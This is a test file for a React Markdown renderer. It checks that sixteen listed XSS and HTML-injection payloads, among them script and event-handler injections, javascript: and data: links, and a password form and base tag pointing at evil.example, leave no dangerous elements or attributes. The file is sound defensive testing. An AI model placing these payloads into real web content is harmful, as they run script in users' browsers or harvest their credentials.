import { MantineProvider } from '@mantine/core';
import { cleanup, render } from '@testing-library/react';
import { afterEach, expect, test } from 'vitest';
import { Markdown } from './Markdown';

afterEach(cleanup);

const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt&colon;alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox(1))',
  '![x](javascript:alert(1))',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '[x]( javascript:alert(1))',
  '<style>*{display:none}</style>',
  '<form action=https://evil.example><input name=password></form>',
  '<base href=https://evil.example>',
  '`</code><script>alert(1)</script>`',
  '[x](//evil.example "onmouseover=alert(1)")',
];

test.each(ATTACKS)('%s does nothing', (text) => {
  const { container } = render(
    <MantineProvider>
      <Markdown text={text} />
    </MantineProvider>,
  );
  const found = container.querySelectorAll(
    'script, iframe, svg, img, style:not([data-mantine-styles]), form, input, base',
  );
  expect([...found].filter((each) => !each.hasAttribute('data-mantine-styles'))).toEqual([]);
  for (const element of container.querySelectorAll('*')) {
    for (const attribute of element.attributes) {
      expect(attribute.name).not.toMatch(/^on/);
      expect(attribute.value).not.toMatch(/^\s*(javascript|vbscript|data):/i);
    }
  }
});

test('a text is shown, and its links say that they are strangers', () => {
  const { getByText, container } = render(
    <MantineProvider>
      <Markdown text={'# App\n\n| a |\n|---|\n| b |\n\n[docs](https://example.com)'} />
    </MantineProvider>,
  );
  expect(getByText('docs').getAttribute('rel')).toContain('nofollow');
  expect(container.querySelector('table')).not.toBeNull();
  expect(container.querySelector('h2')?.textContent).toBe('App');
});
